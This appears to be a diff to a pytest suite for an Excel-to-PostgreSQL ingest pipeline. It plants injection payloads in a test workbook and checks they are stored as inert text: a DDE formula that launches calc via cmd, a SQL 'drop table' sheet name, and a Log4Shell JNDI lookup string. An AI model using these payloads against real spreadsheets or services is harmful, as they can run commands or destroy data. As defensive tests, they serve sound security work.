@@ -242,10 +242,11 @@ def attacked(connection, settings, tmp_path):
     demo = write_week(tmp_path / "week", 24, counties=[WHOLE], payouts=6, forms=("EMP01", "FUN01"))
     path = next(demo.folder / f.path for f in demo.files if f.path.endswith(".xlsx"))
     book = openpyxl.load_workbook(path)
-    first = next(sheet for sheet in book.worksheets if "就业" in sheet.title or "就业" in str(sheet["A1"].value))
-    first.cell(first.max_row + 1, 1, ATTACK)
-    first.cell(first.max_row, 2, FORMULA).data_type = "s"
-    first.cell(first.max_row, 3, "@SUM(1+1)*cmd|' /C calc'!A0")
+    page = max(book.worksheets, key=lambda sheet: sheet.max_row * sheet.max_column)
+    figures = [cell for row in page.iter_rows() for cell in row if isinstance(cell.value, (int, float)) and cell.value > 9]
+    for cell, text in zip(figures[5:], (ATTACK, FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0"), strict=False):
+        cell.value = text
+        cell.data_type = "s"
     odd = book.create_sheet("x'; drop table a--")
     odd["A1"], odd["B1"], odd["A2"] = ATTACK, "=1+1", "${jndi:ldap://example.invalid/a}"
     inbox = tmp_path / "in"
@@ -260,8 +261,7 @@ def test_sql_in_cells_sheets_and_names_stays_text(attacked, connection):
     have = counties(connection, "select nspname from pg_namespace")
     assert {"marts", "intake", "raw", "quality", "store"} <= have
     assert connection.execute("select original_name from intake.file").fetchone()[0].startswith("周报');")
-    told = connection.execute("select count(*) from quality.finding").fetchone()[0]
-    assert told > 0
+    assert connection.execute("select count(*) from quality.finding where value = %s or message_zh like '%%' || %s || '%%'", [ATTACK, ATTACK]).fetchone()[0] > 0
 
 
 def test_formulas_do_not_come_back_as_formulas(attacked, connection):
